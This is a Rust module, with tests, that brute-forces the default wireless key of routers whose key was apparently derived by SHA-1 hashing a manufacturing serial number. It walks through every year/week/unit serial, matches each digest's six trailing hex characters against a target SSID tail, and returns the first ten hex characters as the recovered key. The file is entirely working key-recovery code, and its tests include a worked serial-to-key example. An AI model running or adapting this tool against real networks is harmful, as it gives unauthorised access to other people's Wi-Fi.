//! Keyspace traversal and digest matching.
//!
//! [`Candidates`] enumerates every (year, week, unit) triple a unit could
//! have shipped with, newest year first. [`KeyspaceScan`] hashes each
//! candidate serial and yields a [`MatchRecord`] for every digest whose six
//! trailing hex characters equal the target SSID tail.

use sha1::{Digest, Sha1};

use crate::serial::{HEX_CHARS, serial_bytes};
use crate::{FIRST_YEAR, LAST_YEAR, UNITS_PER_WEEK, WEEKS_PER_YEAR};

/// Hex characters of the digest that form the default key.
pub const KEY_LEN: usize = 10;

/// Hex characters of the digest that appear as the SSID tail.
pub const TAIL_LEN: usize = 6;

/// A candidate whose digest tail collides with the target SSID tail.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct MatchRecord {
    /// Recovered default key: the first ten hex characters of the digest,
    /// uppercase.
    pub key: String,
    /// Full manufacture year, e.g. 2017.
    pub year: u16,
    /// Manufacture week, 1-52.
    pub week: u8,
    /// Three-digit unit number. The plant and configuration codes of the
    /// full serial never enter the key derivation and cannot be recovered.
    pub unit: u16,
}

/// Exhaustive traversal of the serial keyspace.
///
/// Yields `(year, week, unit)` triples with the two-digit serial year
/// descending, weeks ascending 1-52 within a year, and unit numbers
/// ascending 0-999 within a week. Newer batches are likelier to still be in
/// the field, so they are tried first.
#[derive(Debug, Clone)]
pub struct Candidates {
    year: u8,
    floor: u8,
    week: u8,
    unit: u16,
    exhausted: bool,
}

impl Candidates {
    /// Traversal covering serial years `newest` down to 00.
    pub fn new(newest: u8) -> Self {
        Self::between(newest, 0)
    }

    /// Traversal restricted to a single serial year.
    pub fn single_year(year: u8) -> Self {
        Self::between(year, year)
    }

    /// Traversal covering serial years `newest` down to `oldest`, inclusive.
    ///
    /// # Panics
    ///
    /// Panics if `newest` exceeds the two-digit year field or precedes
    /// `oldest`.
    pub fn between(newest: u8, oldest: u8) -> Self {
        assert!(newest <= 99, "serial years are two decimal digits");
        assert!(oldest <= newest, "traversal runs from the newest year down");
        Self { year: newest, floor: oldest, week: 1, unit: 0, exhausted: false }
    }
}

impl Iterator for Candidates {
    type Item = (u8, u8, u16);

    fn next(&mut self) -> Option<(u8, u8, u16)> {
        if self.exhausted {
            return None;
        }
        let item = (self.year, self.week, self.unit);

        self.unit += 1;
        if self.unit == UNITS_PER_WEEK {
            self.unit = 0;
            self.week += 1;
            if self.week > WEEKS_PER_YEAR {
                self.week = 1;
                if self.year == self.floor {
                    self.exhausted = true;
                } else {
                    self.year -= 1;
                }
            }
        }

        Some(item)
    }
}

/// Lazy scan of the keyspace for digests colliding with a target SSID tail.
///
/// The target is compared case-insensitively and is otherwise taken as-is:
/// a target that is not six hex characters simply never matches. Matches
/// are yielded in traversal order (newest year first), and the scan can be
/// dropped at any point to terminate early.
#[derive(Debug, Clone)]
pub struct KeyspaceScan {
    target: Vec<u8>,
    candidates: Candidates,
}

impl KeyspaceScan {
    /// Scans serial years `newest_year` down to 2000.
    ///
    /// # Panics
    ///
    /// Panics if `newest_year` falls outside 2000-2099.
    pub fn new(target: &str, newest_year: u16) -> Self {
        Self {
            target: target.as_bytes().to_ascii_uppercase(),
            candidates: Candidates::new(serial_year(newest_year)),
        }
    }

    /// Scans a single manufacture year.
    ///
    /// # Panics
    ///
    /// Panics if `year` falls outside 2000-2099.
    pub fn single_year(target: &str, year: u16) -> Self {
        Self {
            target: target.as_bytes().to_ascii_uppercase(),
            candidates: Candidates::single_year(serial_year(year)),
        }
    }
}

impl Iterator for KeyspaceScan {
    type Item = MatchRecord;

    fn next(&mut self) -> Option<MatchRecord> {
        for (year, week, unit) in self.candidates.by_ref() {
            let digest: [u8; 20] = Sha1::digest(serial_bytes(year, week, unit)).into();
            if self.target == digest_tail(&digest) {
                return Some(MatchRecord {
                    key: key_hex(&digest),
                    year: FIRST_YEAR + year as u16,
                    week,
                    unit,
                });
            }
        }
        None
    }
}

fn serial_year(year: u16) -> u8 {
    assert!(
        (FIRST_YEAR..=LAST_YEAR).contains(&year),
        "serial years span {FIRST_YEAR}-{LAST_YEAR}"
    );
    (year - FIRST_YEAR) as u8
}

/// Uppercase hex rendering of the last three digest bytes: the six trailing
/// characters of the 40-character hex digest.
#[inline]
fn digest_tail(digest: &[u8; 20]) -> [u8; TAIL_LEN] {
    let mut tail = [0u8; TAIL_LEN];
    for (i, byte) in digest[20 - TAIL_LEN / 2..].iter().enumerate() {
        tail[2 * i] = HEX_CHARS[(byte >> 4) as usize];
        tail[2 * i + 1] = HEX_CHARS[(byte & 0x0F) as usize];
    }
    tail
}

/// Uppercase hex rendering of the first five digest bytes: the default key.
#[inline]
fn key_hex(digest: &[u8; 20]) -> String {
    let mut key = String::with_capacity(KEY_LEN);
    for byte in &digest[..KEY_LEN / 2] {
        key.push(HEX_CHARS[(byte >> 4) as usize] as char);
        key.push(HEX_CHARS[(byte & 0x0F) as usize] as char);
    }
    key
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use hex_literal::hex;

    use super::*;
    use crate::CANDIDATES_PER_YEAR;

    #[test]
    fn test_worked_example_digest() {
        // The week-7-of-2017, unit-111 serial from the derivation write-up.
        let digest: [u8; 20] = Sha1::digest(b"CP1707313131").into();
        assert_eq!(digest, hex!("73e2ec5d26624f32d47ebe26ad4ab083e5ea6601"));
        assert_eq!(digest_tail(&digest), *b"EA6601");
        assert_eq!(key_hex(&digest), "73E2EC5D26");
    }

    #[test]
    fn test_worked_example_scan() {
        let expected = MatchRecord {
            key: "73E2EC5D26".to_string(),
            year: 2017,
            week: 7,
            unit: 111,
        };
        let hit = KeyspaceScan::single_year("ea6601", 2017)
            .find(|record| (record.week, record.unit) == (7, 111));
        assert_eq!(hit, Some(expected));
    }

    #[test]
    fn test_target_case_is_ignored() {
        let lower: Vec<MatchRecord> = KeyspaceScan::single_year("ea6601", 2017).collect();
        let upper: Vec<MatchRecord> = KeyspaceScan::single_year("EA6601", 2017).collect();
        assert!(!lower.is_empty());
        assert_eq!(lower, upper);
    }

    #[test]
    fn test_malformed_targets_never_match() {
        // Non-hex characters cannot occur in a digest, and a tail of the
        // wrong length cannot compare equal to six characters.
        assert_eq!(KeyspaceScan::single_year("zzzzzz", 2000).count(), 0);
        assert_eq!(KeyspaceScan::single_year("ea66", 2017).count(), 0);
        assert_eq!(KeyspaceScan::single_year("ea6601ff", 2017).count(), 0);
    }

    #[test]
    fn test_scan_is_deterministic() {
        let first: Vec<MatchRecord> = KeyspaceScan::new("ea6601", 2001).collect();
        let second: Vec<MatchRecord> = KeyspaceScan::new("ea6601", 2001).collect();
        assert_eq!(first, second);
    }

    #[test]
    fn test_traversal_is_total_ordered_and_duplicate_free() {
        let all: Vec<(u8, u8, u16)> = Candidates::new(1).collect();
        assert_eq!(all.len() as u64, 2 * CANDIDATES_PER_YEAR);
        assert_eq!(all.first(), Some(&(1, 1, 0)));
        assert_eq!(all.last(), Some(&(0, 52, 999)));

        for pair in all.windows(2) {
            let (a, b) = (pair[0], pair[1]);
            let ordered =
                a.0 > b.0 || (a.0 == b.0 && (a.1 < b.1 || (a.1 == b.1 && a.2 < b.2)));
            assert!(ordered, "{a:?} must precede {b:?}");
        }

        let unique: HashSet<(u8, u8, u16)> = all.iter().copied().collect();
        assert_eq!(unique.len(), all.len());
    }

    #[test]
    fn test_weeks_stay_in_1_to_52() {
        assert!(Candidates::single_year(0).all(|(_, week, _)| (1..=52).contains(&week)));
    }

    #[test]
    fn test_single_year_covers_exactly_one_year() {
        let triples: Vec<(u8, u8, u16)> = Candidates::single_year(17).collect();
        assert_eq!(triples.len() as u64, CANDIDATES_PER_YEAR);
        assert!(triples.iter().all(|&(year, _, _)| year == 17));
    }

    #[test]
    #[should_panic(expected = "serial years span")]
    fn test_year_before_2000_is_rejected() {
        let _ = KeyspaceScan::new("ea6601", 1999);
    }
}
